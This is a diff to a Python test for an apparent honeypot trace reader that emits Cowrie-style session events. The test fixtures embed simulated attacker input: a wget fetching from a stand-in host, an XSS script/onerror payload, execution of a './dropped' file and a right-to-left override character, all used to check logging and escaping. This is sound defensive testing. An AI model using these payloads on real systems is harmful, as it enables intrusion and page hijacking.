@@ -25,9 +25,9 @@ def expect(good, text):
         raise AssertionError(text)
 
 
-def main():
+def check(*more, commands):
     with tempfile.TemporaryDirectory() as path:
-        subprocess.run([MAKE, f'{path}/t', '100'], check=True)
+        subprocess.run([MAKE, f'{path}/t', '100', *more], check=True)
         done = subprocess.run([QEBEK, 'read', '-e', 'trace=none', '--output', 'cowrie', f'{path}/t'],
                               stdout=subprocess.PIPE, check=True)
     events = [json.loads(line) for line in done.stdout.decode().splitlines()]
@@ -38,15 +38,20 @@ def main():
         expect(re.fullmatch(r'[0-9a-f]{12}', event['session']), f'{event["session"]}')
         expect(re.fullmatch(r'\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z', event['timestamp']), f'{event["timestamp"]}')
     expect(len({e['session'] for e in events}) == 1, 'sessions')
-    script = "</script><script>document.title='owned'</script><img src=x onerror=document.title='owned'>"
     told = [(e['eventid'].removeprefix('cowrie.'), e.get('input') or e.get('username') or e.get('dst_port'))
             for e in events]
-    expect(told == [('session.connect', 22), ('login.success', 'root'), ('command.input', '-sh'),
-                    ('command.input', "wget 'http://198.51.100.7/a b' '" + script.replace("'", "'\\''") + "'"),
-                    ('command.input', "./dropped 'it'\\''s' '\u202e' ''"), ('command.failed', 'nonsense'),
-                    ('session.closed', None)], f'{told}')
+    expect(told == [('session.connect', 22), ('login.success', 'root'), *(('command.input', c) for c in commands),
+                    ('command.failed', 'nonsense'), ('session.closed', None)], f'{told}')
     expect(events[-1]['duration'] >= 0 and events[0]['src_port'] == 50022, f'{events[-1]}')
     print(f'{len(events)} events')
+
+
+def main():
+    script = "</script><script>document.title='owned'</script><img src=x onerror=document.title='owned'>"
+    # At a terminal what was typed is the command; without one, each program that runs.
+    check(commands=['whoami </script>\u202e'])
+    check('no-terminal', commands=["wget 'http://198.51.100.7/a b' '" + script.replace("'", "'\\''") + "'",
+                                   "./dropped 'it'\\''s' '\u202e' ''"])
 
 
 if __name__ == '__main__':
